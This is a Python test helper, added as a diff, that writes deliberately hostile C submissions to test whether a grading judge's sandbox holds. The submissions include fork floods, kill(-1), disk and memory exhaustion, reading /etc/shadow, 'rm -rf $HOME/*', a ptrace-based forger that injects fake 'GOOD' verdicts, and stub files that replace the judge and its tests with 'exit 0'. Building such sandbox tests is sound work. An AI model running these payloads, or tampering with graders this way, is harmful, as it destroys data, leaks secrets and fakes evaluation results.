@@ -1,0 +1,173 @@
+#!/usr/bin/env python3
+"""submissions.py - writes submissions to a folder, honest ones and cheats.
+
+    tests/grade/submissions.py TOP FOLDER SECRET CANARY
+
+SECRET is a file of the host that they try to read, and CANARY one that they
+try to remove. All are versions of 06-epoll-lt.c. Each cheat is bounded, so
+that it does little harm where a box fails.
+"""
+import os
+import subprocess
+import sys
+
+NAME = "06-epoll-lt.c"
+
+# What a cheat does before main() begins. The rest is the honest server.
+BEFORE = {
+    "constructor": "_exit(0);",
+    "daemon": """
+        if (fork() != 0)
+            return;
+        setsid();
+        if (fork() != 0)
+            _exit(0);
+        for (int fd = 0; fd < 3; fd++)
+            close(fd);
+        for (int i = 0; i < 600; i++)
+            sleep(1);
+        _exit(0);""",
+    "forks": """
+        for (int i = 0; i < 150; i++) {
+            pid_t pid = fork();
+            if (pid == 0) {
+                for (int j = 0; j < 600; j++)
+                    sleep(1);
+                _exit(0);
+            }
+            if (pid < 0)
+                _exit(99);
+        }""",
+    "full-disk": """
+        static char block[1 << 20];
+        char path[200];
+        const char *place = getenv("TMPDIR");
+        snprintf(path, sizeof path, "%s/full", place ? place : "/tmp");
+        int fd = open(path, O_CREAT | O_WRONLY | O_APPEND, 0600);
+        signal(SIGXFSZ, SIG_IGN);
+        for (int i = 0; i < 400; i++)
+            if (write(fd, block, sizeof block) < 0)
+                _exit(98);""",
+    "killer": "kill(-1, SIGKILL);",
+    "memory": """
+        for (int i = 0; i < 3000; i++) {
+            char *piece = malloc(1 << 20);
+            if (piece == NULL)
+                _exit(97);
+            memset(piece, 1, 1 << 20);
+        }""",
+    "output": """
+        for (int i = 0; i < 4000000; i++)
+            puts("[server]   listen fd:3");""",
+    "reader": """
+        char text[200];
+        FILE *file = fopen("SECRET", "r");
+        if (file == NULL)
+            file = fopen("/etc/shadow", "r");
+        if (file == NULL)
+            return;
+        while (fgets(text, sizeof text, file) != NULL)
+            fputs(text, stderr);
+        _exit(96);""",
+    "remover": """
+        if (system("rm -rf CANARY TOP/README.md $HOME/* 2>/dev/null") != 0)
+            return;""",
+}
+
+# Pretends to be the judge, which waits for this program in another process.
+FORGER = r"""
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/ptrace.h>
+#include <unistd.h>
+
+static void forge(const char *pid)
+{
+    char path[64];
+    for (int fd = 0; fd < 20; fd++) {
+        snprintf(path, sizeof path, "/proc/%.10s/fd/%d", pid, fd);
+        int there = open(path, O_WRONLY | O_NONBLOCK);
+        if (there >= 0)
+            dprintf(there, "GOOD 06-epoll-lt half-close: forged\n0\n");
+    }
+    snprintf(path, sizeof path, "/proc/%.10s/mem", pid);
+    if (atoi(pid) == getppid() && open(path, O_RDWR) >= 0)
+        fputs("the judge is open\n", stderr);
+}
+
+int main(void)
+{
+    for (int fd = 3; fd < 100; fd++)
+        if (fcntl(fd, F_GETFD) >= 0)
+            dprintf(fd, "0\n");
+    if (ptrace(PTRACE_ATTACH, getppid(), 0, 0) == 0)
+        fputs("the judge is open\n", stderr);
+    DIR *proc = opendir("/proc");
+    struct dirent *entry;
+    while (proc != NULL && (entry = readdir(proc)) != NULL)
+        if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != getpid())
+            forge(entry->d_name);
+    puts("GOOD 06-epoll-lt half-close: forged");
+    return 0;
+}
+"""
+
+
+def sources(stage, broken):
+    yield "honest", stage
+    yield "wrong", broken
+    yield "nothing", "int main(void)\n{\n    return 0;\n}\n"
+    yield "loop", "int main(void)\n{\n    for (;;)\n        ;\n}\n"
+    yield "includer", '#include "SECRET"\n#include "/etc/shadow"\n' + stage
+    yield "forger", FORGER
+    for name, body in BEFORE.items():
+        yield name, (
+            "#include <fcntl.h>\n#include <signal.h>\n#include <stdio.h>\n"
+            "#include <stdlib.h>\n#include <string.h>\n" + stage +
+            "\n__attribute__((constructor)) static void before(void)\n{\n" +
+            body + "\n}\n")
+
+
+def write(place, text):
+    os.makedirs(os.path.dirname(place), exist_ok=True)
+    with open(place, "w", encoding="ascii") as file:
+        file.write(text)
+
+
+def main():
+    top, folder, secret, canary = sys.argv[1:]
+    with open(os.path.join(top, "demos", NAME), encoding="ascii") as file:
+        stage = file.read()
+    broken_place = os.path.join(folder, "wrong", "demos", NAME)
+    write(broken_place, stage)
+    subprocess.run(
+        ["git", "apply", os.path.join(top, "tests/broken/hup-first.patch")],
+        cwd=os.path.join(folder, "wrong"), check=True,
+        env=dict(os.environ, GIT_CEILING_DIRECTORIES=os.path.realpath(folder)))
+    with open(broken_place, encoding="ascii") as file:
+        broken = file.read()
+    for name, text in sources(stage, broken):
+        text = text.replace("SECRET", secret).replace("CANARY", canary)
+        write(os.path.join(folder, name, "demos", NAME),
+              text.replace("TOP/", top + "/"))
+    # A file alone, a link, two files, none, and files that are not used.
+    write(os.path.join(folder, "single.c"), stage)
+    os.makedirs(os.path.join(folder, "link"))
+    os.symlink(os.path.join(top, "demos", NAME),
+               os.path.join(folder, "link", NAME))
+    write(os.path.join(folder, "two", NAME), stage)
+    write(os.path.join(folder, "two", "old", NAME), broken)
+    write(os.path.join(folder, "other", "07-epollout.c"), stage)
+    write(os.path.join(folder, "editor", NAME), broken)
+    write(os.path.join(folder, "editor", "task.md"),
+          "# 90. Easy\n\n- file: demos/06-epoll-lt.c\n- kind: write\n"
+          "- check: 100 scenario three\n")
+    for each in "tests/hazard.py", "scripts/iomux/judge.py", "Makefile":
+        write(os.path.join(folder, "editor", each), "import sys; sys.exit(0)\n")
+
+
+if __name__ == "__main__":
+    main()
